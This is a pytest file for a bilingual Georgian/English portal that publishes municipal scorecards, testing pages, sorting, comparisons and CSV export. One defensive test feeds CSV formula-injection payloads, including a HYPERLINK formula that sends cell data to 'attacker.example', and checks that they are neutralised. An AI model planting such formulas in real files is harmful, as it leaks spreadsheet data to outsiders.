"""The public portal, page by page, as a citizen reads it in Georgian and in English.

The scores come from the `published_2021` and `published_2020` fixtures (tests/conftest.py):
in 2021 Telavi's external assessment scores 80.0 (self 56.7) and Sighnaghi's 57.5 (self 100.0).
"""

import csv
import io
import re
from decimal import Decimal

import pytest

from assessments import services
from assessments.results.cycles import cycle_results
from assessments.results.scorecard import scorecard
from assessments.workflow import Status
from indicators.models import MethodologyVersion
from musqat.georgian import has_mtavruli
from tests import factories
from tests.conftest import NA

PAGES = [
    "",
    "municipalities/",
    "municipalities/?cycle=2020",
    "municipalities/?sort=-score",
    "municipalities/?sort=area-A",
    "municipalities/telavi/",
    "scorecards/2021/telavi/",
    "compare/?cycle=2021&m=telavi&m=sighnaghi",
    "compare/?cycle=2021&m=telavi&m=sighnaghi&kind=self",
    "areas/2021/A/",
    "methodology/",
    "methodology/2020/",
    "about/",
]
OTHER_LANGUAGE = {"ka": "en", "en": "ka"}


@pytest.fixture
def portal(published_2020, published_2021):
    """Two published cycles of Telavi and Sighnaghi."""


def answers(page, code):
    """The answers to one indicator on a scorecard, each as one line of text."""
    article = re.search(
        rf'<article[^>]*aria-labelledby="indicator-{re.escape(code)}".*?</article>', page.html, re.S
    ).group(0)
    blocks = re.findall(r'<div class="answer[ "].*?</div></div>', article, re.S)
    return [page.plain(block) for block in blocks]


def municipalities_in_order(page):
    """The municipality column of the list, top to bottom."""
    return [cells[1] for cells in page.rows[1:]]


# --- Every page ---------------------------------------------------------------------------


@pytest.mark.parametrize("lang", ["ka", "en"])
@pytest.mark.parametrize("path", PAGES)
def test_every_page_answers_with_its_language_title_and_description(visit, portal, lang, path):
    page = visit(f"/{lang}/{path}")

    assert page.status_code == 200
    assert f'<html lang="{lang}">' in page.html
    assert page.title.endswith("· MUSQAT") and len(page.title) > len("· MUSQAT")
    assert page.meta("description")
    assert page.meta("og:title")


@pytest.mark.parametrize("lang", ["ka", "en"])
@pytest.mark.parametrize("path", PAGES)
def test_every_page_links_to_the_same_page_in_the_other_language(visit, portal, lang, path):
    other = OTHER_LANGUAGE[lang]

    page = visit(f"/{lang}/{path}")

    switch = [a for a, _text in page.anchors if a.get("hreflang") == other]
    assert switch and switch[0]["href"] == f"/{other}/{path}"


def test_the_georgian_scorecard_links_to_the_english_one(visit, portal):
    page = visit("/ka/scorecards/2021/telavi/")

    assert ("/en/scorecards/2021/telavi/", "English") in page.links


@pytest.mark.parametrize("path", [*PAGES, "scorecards/2021/nowhere/"])
def test_georgian_pages_never_show_mtavruli(visit, portal, path):
    page = visit(f"/ka/{path}")

    assert not has_mtavruli(page.html)


# --- The list of municipalities ----------------------------------------------------------


def test_the_list_shows_rank_score_band_change_gap_and_each_area(visit, portal):
    page = visit("/en/municipalities/")

    assert page.row("Rank") == [
        "Rank ▲", "Municipality", "Score", "Band", "Change", "Gap", "Governance", "Infrastructure",
    ]  # fmt: skip
    assert page.row("Telavi") == ["1", "Telavi", "80.0", "High", "▲ +60.0", "−23.3", "80.0", "–"]
    assert page.row("Sighnaghi") == [
        "2", "Sighnaghi", "57.5", "Developing", "0.0", "+42.5", "75.0", "40.0",
    ]  # fmt: skip
    assert "Change: since 2020." in page.text


def test_the_list_shows_an_earlier_cycle_on_request(visit, portal):
    page = visit("/en/municipalities/?cycle=2020")

    assert "Published scores, 2020." in page.text
    assert page.row("Sighnaghi")[:4] == ["1", "Sighnaghi", "57.5", "Developing"]
    assert page.row("Telavi")[:4] == ["2", "Telavi", "20.0", "Low"]


def test_the_list_names_municipalities_that_have_published_nothing(visit, portal):
    factories.municipality("gurjaani", "Gurjaani", "გურჯაანი")

    page = visit("/en/municipalities/")

    assert page.row("Gurjaani")[:3] == ["–", "Gurjaani (not published)", "–"]


@pytest.mark.parametrize(
    "sort, order",
    [
        ("-score", ["Telavi", "Sighnaghi"]),
        ("score", ["Sighnaghi", "Telavi"]),
        ("name", ["Sighnaghi", "Telavi"]),
        ("-gap", ["Sighnaghi", "Telavi"]),
        ("area-A", ["Sighnaghi", "Telavi"]),
        ("-area-A", ["Telavi", "Sighnaghi"]),
        # Telavi has no score in B (not applicable), so it comes last either way.
        ("area-B", ["Sighnaghi", "Telavi"]),
        ("-area-B", ["Sighnaghi", "Telavi"]),
    ],
)
def test_the_list_sorts_by_any_column(visit, portal, sort, order):
    page = visit(f"/en/municipalities/?sort={sort}")

    assert page.status_code == 200
    assert municipalities_in_order(page) == order


def test_the_sorted_column_says_how_it_is_sorted_and_sorts_the_other_way_next(visit, portal):
    page = visit("/en/municipalities/?sort=-score")

    assert '<th scope="col" aria-sort="descending" class="text-end">' in page.html
    assert ("?cycle=2021&sort=score", "Score ▼") in page.links


def test_an_unknown_sort_order_is_explained_and_the_list_is_sorted_by_rank(visit, portal):
    page = visit("/en/municipalities/?sort=population")

    assert page.status_code == 200
    assert "Unknown sort order “population”; sorted by rank." in page.text
    assert municipalities_in_order(page) == ["Telavi", "Sighnaghi"]


def test_an_unknown_cycle_is_explained_and_the_latest_one_is_shown(visit, portal):
    page = visit("/en/municipalities/?cycle=1999")

    assert page.status_code == 200
    assert "There are no published results for the cycle “1999”." in page.text
    assert "Published scores, 2021." in page.text


# --- One municipality --------------------------------------------------------------------


def test_the_municipality_page_shows_its_facts_latest_score_and_history(visit, portal):
    page = visit("/en/municipalities/telavi/")

    assert "Telavi Municipality" in page.title
    assert "Region Kakheti" in page.text
    assert "Latest scorecard: 2021" in page.text
    assert "Overall score 80.0 High" in page.text
    assert "Rank 1 / 2 External assessment" in page.text
    assert "Self minus external −23.3 Self 56.7 · External 80.0" in page.text
    assert page.row("A. Governance") == ["A. Governance", "80.0", "77.5"]
    assert page.row("Scorecard 2021") == ["Scorecard 2021", "56.7", "80.0", "−23.3"]
    assert page.row("Scorecard 2020") == ["Scorecard 2020", "–", "20.0", "–"]
    assert 'class="chart chart-trend"' in page.html
    assert ("/en/scorecards/2021/telavi/", "Full scorecard 2021") in page.links


def test_a_municipality_with_nothing_published_shows_its_facts_only(visit, portal):
    factories.municipality("gurjaani", "Gurjaani", "გურჯაანი")

    page = visit("/en/municipalities/gurjaani/")

    assert page.status_code == 200
    assert "Gurjaani Municipality" in page.text
    assert "No scorecard of this municipality has been published yet." in page.text


# --- A scorecard -------------------------------------------------------------------------


def test_the_scorecard_leads_with_the_overall_score_its_band_and_rank(visit, published_2021):
    page = visit("/en/scorecards/2021/telavi/?show=all")

    assert "Overall score 80.0 High Rank 1 in Kakheti · External assessment" in page.text
    assert "Telavi: scorecard 2021" in page.title


def test_the_scorecard_shows_self_and_external_side_by_side_with_the_gap(visit, published_2021):
    page = visit("/en/scorecards/2021/telavi/?show=all")

    assert "Self-assessment 56.7 Developing rank 2" in page.text
    assert "External assessment 80.0 High rank 1" in page.text
    assert "Gap −23.3 self minus external" in page.text
    assert page.row("Thematic area") == ["Thematic area", "Self", "External", "Gap", "Change"]
    assert page.row("A. Governance") == ["A. Governance", "33.3", "80.0", "−46.7", "–"]
    assert page.row("B. Infrastructure") == ["B. Infrastructure", "80.0", "–", "–", "–"]


def test_the_scorecard_gives_every_answer_in_words(visit, published_2021):
    page = visit("/en/scorecards/2021/telavi/?show=all")

    assert answers(page, "A.1.1") == [
        "Self-assessment No Score: 0.0 / 100",
        "External assessment Yes Score: 100.0 / 100",
    ]
    assert answers(page, "A.1.2")[0].startswith("Self-assessment Adopted (level 2 of 3)")
    assert answers(page, "A.2.1")[0].startswith("External assessment 60% Score: 60.0 / 100")
    assert answers(page, "B.1.1")[0] == "Self-assessment 8 days Score: 80.0 / 100"


def test_the_georgian_scorecard_gives_the_answers_in_georgian(visit, published_2021):
    page = visit("/ka/scorecards/2021/telavi/?show=all")

    assert "მიღებული" in answers(page, "A.1.2")[0]  # the scale level's Georgian label
    assert "8 დღე" in answers(page, "B.1.1")[0]
    assert "60%" in answers(page, "A.2.1")[0]
    assert "56,7" in page.text and "80,0" in page.text


def test_a_not_applicable_answer_shows_its_reason(visit, published_2021):
    english = answers(visit("/en/scorecards/2021/telavi/?show=all"), "B.1.1")[1]
    georgian = answers(visit("/ka/scorecards/2021/telavi/?show=all"), "B.1.1")[1]

    assert english == (
        "External assessment Not applicable Reason: The municipality has no such service"
    )
    assert "მუნიციპალიტეტს ეს სერვისი არ აქვს" in georgian


def test_the_scorecard_shows_the_evidence_for_an_answer(visit, published_2021):
    english = answers(visit("/en/scorecards/2021/telavi/?show=all"), "A.2.1")[0]
    georgian = answers(visit("/ka/scorecards/2021/telavi/?show=all"), "A.2.1")[0]

    assert "Evidence: We visited 12 of 20 villages" in english
    assert "მოვინახულეთ 12 სოფელი 20-დან" in georgian


def test_the_scorecard_shows_the_municipality_s_reply_to_a_finding(visit, published_2021):
    english = answers(visit("/en/scorecards/2021/telavi/?show=all"), "A.2.1")[0]
    georgian = answers(visit("/ka/scorecards/2021/telavi/?show=all"), "A.2.1")[0]

    assert "The municipality's reply: The other villages join in 2022" in english
    assert "დანარჩენი სოფლები 2022 წელს ჩაერთვება" in georgian


@pytest.fixture
def telavi_external_2021(telavi, cycle_2021, cso):
    """Telavi's external assessment of 2021, not yet published."""
    return factories.assessment(telavi, cycle_2021, "external", organization=cso)


TELAVI_EXTERNAL = {"A.1.1": 1, "A.2.1": 60, "B.1.1": 14}


def test_an_english_scorecard_sends_readers_to_georgian_text_it_has_no_translation_of(
    visit, telavi_external_2021, publish
):
    publish(
        telavi_external_2021,
        TELAVI_EXTERNAL,
        texts={"A.2.1": {"evidence": "მოვინახულეთ 12 სოფელი 20-დან"}},  # no English
    )

    page = visit("/en/scorecards/2021/telavi/?show=all")

    answer = answers(page, "A.2.1")[0]
    assert "have no English translation yet" in answer
    assert "მოვინახულეთ" not in answer
    assert (
        "/ka/scorecards/2021/telavi/?show=all#indicator-A.2.1",
        "read them on the Georgian page",
    ) in (page.links)


def test_the_scorecard_shows_the_change_since_the_previous_cycle(visit, portal):
    page = visit("/en/scorecards/2021/telavi/?show=all")

    assert "External assessment 80.0 High rank 1 Since 2020: ▲ +60.0" in page.text
    assert page.row("A. Governance")[-1] == "▲ +60.0"  # A was 20 in 2020
    assert "change ▲ +20.0" in answers(page, "A.2.1")[0]  # 40 % → 60 %


def test_the_scorecard_compares_no_scores_with_a_cycle_under_another_methodology(
    visit, published_2021, telavi, cso, publish
):
    earlier = factories.cycle(2020, factories.methodology(code="2016", is_current=False))
    publish(
        factories.assessment(telavi, earlier, "external", organization=cso),
        {"A.1.1": 0, "A.2.1": 10, "B.1.1": 20},
    )

    page = visit("/en/scorecards/2021/telavi/?show=all")

    assert "External assessment 80.0 High rank 1 Not comparable with the previous cycle." in (
        page.text
    )
    assert "Since 2020" not in page.text
    assert page.row("A. Governance")[-1] == "–"


def test_a_corrected_scorecard_explains_the_correction_in_each_language(
    visit, published_2021, project_staff, cso_monitor
):
    # Until this correction is published, the first revision stays public
    # (test_portal_privacy.py follows a correction through every stage).
    external = published_2021["telavi", "external"]
    services.move_assessment(assessment=external, action="correct", by=project_staff)
    services.return_assessment(
        assessment=external, by=project_staff, comments=[], note="A.2.1: recount the villages."
    )
    factories.answer(external, "A.2.1", 70)
    services.submit_assessment(assessment=external, by=cso_monitor)
    services.move_assessment(assessment=external, action="start_review", by=project_staff)
    services.publish_assessment(
        assessment=external,
        by=project_staff,
        note_ka="A.2.1 შესწორდა: 70%",
        note_en="A.2.1 corrected: 70%",
    )

    english = visit("/en/scorecards/2021/telavi/?show=all")
    georgian = visit("/ka/scorecards/2021/telavi/?show=all")

    assert "Corrected (revision 2, " in english.text
    assert "A.2.1 corrected: 70%" in english.text
    assert "A.2.1 შესწორდა: 70%" in georgian.text
    # A = (100 + 70) ÷ 2 = 85
    assert "Overall score 85.0 High" in english.text
    assert "External assessment 70% Score: 70.0 / 100" in english.text


def test_the_scorecard_links_the_evidence_addresses(visit, telavi_external_2021, publish):
    publish(
        telavi_external_2021,
        TELAVI_EXTERNAL,
        texts={"A.2.1": {"links": "https://telavi.gov.ge/villages\n\nhttps://example.org/report"}},
    )

    page = visit("/en/scorecards/2021/telavi/?show=all")

    assert ("https://telavi.gov.ge/villages", "https://telavi.gov.ge/villages") in page.links
    assert ("https://example.org/report", "https://example.org/report") in page.links


# --- The scorecard's data ----------------------------------------------------------------


def download(client, url):
    response = client.get(url)
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")  # so that spreadsheet programs read it as UTF-8
    return response, list(csv.reader(io.StringIO(text[1:])))


def test_the_scorecard_data_downloads_as_csv_with_one_row_per_answer(client, published_2021):
    response, rows = download(client, "/en/scorecards/2021/telavi/data.csv")

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert 'filename="musqat-2021-telavi.csv"' in response["Content-Disposition"]
    assert rows[0] == [
        "Thematic area", "Criterion", "Indicator code", "Indicator", "Kind", "Answer", "Value",
        "Not applicable", "Score (0–100)", "Criterion score", "Area score", "Evidence",
    ]  # fmt: skip
    # Three self-assessment answers and three external ones.
    assert [(row[2], row[4]) for row in rows[1:]] == [
        ("A.1.1", "Self-assessment"),
        ("A.1.1", "External assessment"),
        ("A.1.2", "Self-assessment"),
        ("A.2.1", "External assessment"),
        ("B.1.1", "Self-assessment"),
        ("B.1.1", "External assessment"),
    ]
    assert rows[3][:11] == [
        "A", "A.1", "A.1.2", "Indicator A.1.2", "Self-assessment", "Adopted (level 2 of 3)",
        "2", "no", "66.67", "33.33", "33.33",
    ]  # fmt: skip
    assert rows[6] == [
        "B", "B.1", "B.1.1", "Indicator B.1.1", "External assessment", "Not applicable",
        "", "yes", "", "", "", "",
    ]  # fmt: skip


def test_the_georgian_csv_gives_answers_and_evidence_in_georgian(client, published_2021):
    _response, rows = download(client, "/ka/scorecards/2021/telavi/data.csv")

    assert "მიღებული" in rows[3][5]
    assert rows[4][11] == "მოვინახულეთ 12 სოფელი 20-დან"


def test_the_english_csv_gives_the_evidence_in_english(client, published_2021):
    _response, rows = download(client, "/en/scorecards/2021/telavi/data.csv")

    assert rows[3][11] == "The standard was adopted by the council"
    assert rows[4][11] == "We visited 12 of 20 villages"


@pytest.mark.parametrize(
    "evidence",
    ['=HYPERLINK("https://attacker.example/?"&A1,"Source")', "+1+1", "-2+3", "@SUM(A1:A9)"],
)
def test_the_csv_writes_evidence_that_looks_like_a_formula_as_inert_text(
    client, telavi, cycle_2021, cso, publish, evidence
):
    assessment = factories.assessment(telavi, cycle_2021, "external", organization=cso)
    publish(
        assessment,
        {"A.1.1": 1, "A.2.1": 60, "B.1.1": 8},
        texts={"A.2.1": {"evidence": evidence, "evidence_en": evidence}},
    )

    _response, rows = download(client, "/en/scorecards/2021/telavi/data.csv")

    a21 = next(row for row in rows if row[2] == "A.2.1")
    assert a21[11] == f"'{evidence}"


def test_the_csv_rounds_scores_half_up_as_the_rest_of_the_site(
    client, telavi, cycle_2021, cso, publish
):
    """A.2.1 at 12.345 % scores 12.345: half up it is 12.35 (half to even, 12.34)."""
    assessment = factories.assessment(telavi, cycle_2021, "external", organization=cso)
    publish(assessment, {"A.1.1": 1, "A.2.1": Decimal("12.345"), "B.1.1": NA("no service")})

    _response, rows = download(client, "/en/scorecards/2021/telavi/data.csv")

    a21 = next(row for row in rows if row[2] == "A.2.1")
    assert a21[6:11] == ["12.345", "no", "12.35", "12.35", "56.17"]


# --- Comparing municipalities ------------------------------------------------------------


def test_it_compares_two_municipalities_and_stars_the_best_value(visit, published_2021):
    page = visit("/en/compare/?cycle=2021&m=telavi&m=sighnaghi")

    assert page.row("Area or criterion") == ["Area or criterion", "Telavi", "Sighnaghi"]
    # Each score names its grade band too.
    assert page.row("Overall score") == ["Overall score", "★ best: 80.0 High", "57.5 Developing"]
    assert page.row("A. Governance") == ["A. Governance", "★ best: 80.0 High", "75.0 Good"]
    # A tie: both are the best.
    assert page.row("A.1 Strategy") == [
        "A.1 Strategy", "★ best: 100.0 High", "★ best: 100.0 High",
    ]  # fmt: skip
    # Only Sighnaghi has a score in B: there is no contest, so no star.
    assert page.row("B.1 Response") == ["B.1 Response", "–", "40.0 Developing"]
    assert "The best value in each row is marked with ★." in page.text


def test_it_compares_the_self_assessments_on_request(visit, published_2021):
    page = visit("/en/compare/?cycle=2021&m=telavi&m=sighnaghi&kind=self")

    assert page.row("Overall score") == ["Overall score", "56.7 Developing", "★ best: 100.0 High"]
    assert '<option value="self" selected>' in page.html


def test_it_asks_for_municipalities_when_none_are_chosen(visit, published_2021):
    page = visit("/en/compare/")

    assert page.status_code == 200
    assert "Choose between 2 and 8 municipalities" in page.text


@pytest.mark.parametrize(
    "query, error",
    [
        ("m=telavi&m=nowhere", "Unknown municipality: nowhere."),
        ("m=telavi", "Choose at least 2 municipalities to compare."),
        ("m=telavi&m=sighnaghi&kind=best", "Unknown kind of assessment; showing the default."),
    ],
)
def test_it_explains_what_is_wrong_with_a_comparison(visit, published_2021, query, error):
    page = visit(f"/en/compare/?cycle=2021&{query}")

    assert page.status_code == 200
    assert error in page.text


def test_it_refuses_to_compare_more_than_eight(visit, published_2021):
    for slug in ("akhmeta", "dedoplistskaro", "gurjaani", "kvareli", "lagodekhi", "sagarejo"):
        factories.municipality(slug, slug.title(), slug)
    nine = ["akhmeta", "dedoplistskaro", "gurjaani", "kvareli", "lagodekhi", "sagarejo"]
    nine += ["sighnaghi", "telavi", "telavi"]  # a repeated one counts once
    page = visit("/en/compare/?" + "&".join(f"m={slug}" for slug in nine))
    assert "Choose at most" not in page.text

    factories.municipality("tianeti", "Tianeti", "თიანეთი")
    page = visit("/en/compare/?" + "&".join(f"m={slug}" for slug in [*nine, "tianeti"]))

    assert page.status_code == 200
    assert "Choose at most 8 municipalities; you chose 9." in page.text
    assert "Overall score" not in page.text


def test_it_explains_an_unknown_cycle_and_compares_the_latest(visit, published_2021):
    page = visit("/en/compare/?cycle=1999&m=telavi&m=sighnaghi")

    assert page.status_code == 200
    assert "There are no published results for the cycle “1999”." in page.text
    assert page.row("Overall score") == ["Overall score", "★ best: 80.0 High", "57.5 Developing"]


# --- A thematic area ---------------------------------------------------------------------


def test_the_area_page_puts_every_municipality_side_by_side(visit, published_2021):
    page = visit("/en/areas/2021/A/")

    assert "Governance, 2021" in page.title
    assert page.row("Criterion or indicator") == ["Criterion or indicator", "Telavi", "Sighnaghi"]
    assert page.row("Area score") == ["Area score", "★ best: 80.0 High", "75.0 Good"]
    assert page.row("A.2 Access") == ["A.2 Access", "★ best: 60.0 Good", "50.0 Developing"]
    assert page.row("A.2.1") == [
        "A.2.1 Indicator A.2.1", "★ best: 60.0 Good", "50.0 Developing",
    ]  # fmt: skip
    # A.1.2 is answered by municipalities only: the external assessment has no score for it.
    assert page.row("A.1.2") == ["A.1.2 Indicator A.1.2", "–", "–"]
    assert ("/en/areas/2021/B/", "B") in page.links


# --- The methodology ---------------------------------------------------------------------


def test_the_methodology_page_explains_the_structure(visit, methodology):
    page = visit("/en/methodology/")

    assert page.status_code == 200
    assert "2 thematic areas, 3 criteria and 4 indicators" in page.text
    assert "A.1.2 Indicator A.1.2" in page.text
    assert "Levels: None Draft Adopted Applied" in page.text
    assert "worst 20 days, best 5 days" in page.text
    assert page.row("High") == ["High", "80.0 to 100"]


@pytest.mark.parametrize(
    "lang, criterion, area, overall",
    [("ka", "76,9", "66,1", "50,5"), ("en", "76.9", "66.1", "50.5")],
)
def test_the_worked_example_computes_its_numbers_with_the_scoring_engine(
    visit, methodology, lang, criterion, area, overall
):
    page = visit(f"/{lang}/methodology/")

    # X.1 = 100 × (1 × 1 + 2 × 0.75 + 1 × 0.625 + 1 × 0.72) ÷ (1 + 2 + 1 + 1) = 76.9
    # (X.1.5 is not applicable and left out); X = (1.5 × 76.9 + 1 × 50) ÷ 2.5 = 66.14;
    # overall = (1 × 66.14 + 1.5 × 40) ÷ 2.5 = 50.456.
    assert f"= {criterion}" in page.text
    assert f"= {area}." in page.text
    assert f"= {overall}." in page.text


def test_an_earlier_methodology_version_says_so_and_links_to_the_current_one(visit, methodology):
    MethodologyVersion.objects.create(code="2016", name_ka="ძველი", name_en="Old methodology")

    page = visit("/en/methodology/2016/")

    assert page.status_code == 200
    assert "This is an earlier version of the methodology." in page.text
    assert ("/en/methodology/", "See the current version") in page.links
    assert ("/en/methodology/2020/", "2020") in page.links


# --- About --------------------------------------------------------------------------------


def test_the_about_page_names_the_partners_and_the_municipalities(visit, telavi, cso):
    page = visit("/en/about/")

    assert page.status_code == 200
    assert "Civic Monitor" in page.text
    assert ("/en/municipalities/telavi/", "Telavi Municipality") in page.links


def test_the_about_page_gives_the_contact_address_when_there_is_one(visit, db, settings):
    settings.CONTACT_EMAIL = "musqat@example.org"

    page = visit("/en/about/")

    assert ("mailto:musqat@example.org", "musqat@example.org") in page.links


# --- Pages that do not exist -------------------------------------------------------------


@pytest.fixture
def gurjaani_not_yet_published(cycle_2021):
    """Gurjaani's self-assessment of 2021, which is still in the workflow."""
    gurjaani = factories.municipality("gurjaani", "Gurjaani", "გურჯაანი")
    return factories.assessment(gurjaani, cycle_2021, "self")


MISSING = [
    "municipalities/nowhere/",
    "scorecards/2021/nowhere/",
    "scorecards/2019/telavi/",
    "scorecards/2021/gurjaani/",
    "scorecards/2021/gurjaani/data.csv",
    "areas/2019/A/",
    "areas/2021/Z/",
    "methodology/1999/",
]


@pytest.mark.parametrize("lang", ["ka", "en"])
@pytest.mark.parametrize("path", MISSING)
def test_a_missing_page_is_a_friendly_404_in_the_reader_s_language(
    visit, published_2021, gurjaani_not_yet_published, lang, path
):
    page = visit(f"/{lang}/{path}")

    assert page.status_code == 404
    assert f'<html lang="{lang}">' in page.html
    assert f"/{lang}/" in page.hrefs()  # a way back to the home page
    assert f"/{lang}/municipalities/" in page.hrefs()
    assert not has_mtavruli(page.html)


@pytest.mark.parametrize("status", [Status.DRAFT, Status.SUBMITTED, Status.REVIEW])
def test_a_scorecard_that_is_not_published_is_not_found(
    visit, published_2021, gurjaani_not_yet_published, status
):
    gurjaani_not_yet_published.status = status
    gurjaani_not_yet_published.save()

    assert visit("/en/scorecards/2021/gurjaani/").status_code == 404
    assert visit("/ka/scorecards/2021/gurjaani/").status_code == 404


def test_the_methodology_page_is_not_found_before_any_methodology_exists(visit, db):
    page = visit("/en/methodology/")

    assert page.status_code == 404
    assert page.lang == "en"


def test_the_english_404_page_is_in_english(visit, db):
    page = visit("/en/municipalities/nowhere/")

    assert "Page not found" in page.title


def test_an_empty_sort_order_sorts_by_rank_without_complaint(client, published_2021):
    page = client.get("/en/municipalities/?sort=")

    assert page.status_code == 200
    assert "Unknown sort order" not in page.content.decode()


def test_the_list_and_the_scorecard_agree_on_what_the_previous_cycle_is(
    telavi, sighnaghi, methodology, cso, publish, published_2021
):
    """Telavi was published in 2019 but not in 2020; Sighnaghi in 2020. The previous cycle
    of 2021 is 2020 everywhere, so Telavi shows no change on its scorecard either."""
    for year, place in ((2019, telavi), (2020, sighnaghi)):
        cycle = factories.cycle(year, methodology)
        assessment = factories.assessment(place, cycle, "external", organization=cso)
        publish(assessment, {"A.1.1": 0, "A.2.1": 40, "B.1.1": 14})

    cycle_2021 = published_2021.cycle
    rows = {row.municipality.slug: row for row in cycle_results(cycle_2021).rows}
    card = scorecard(telavi, cycle_2021)

    assert rows["telavi"].change is None
    assert card.external_summary.change is None
    assert rows["sighnaghi"].change == scorecard(sighnaghi, cycle_2021).external_summary.change
    assert rows["sighnaghi"].change is not None
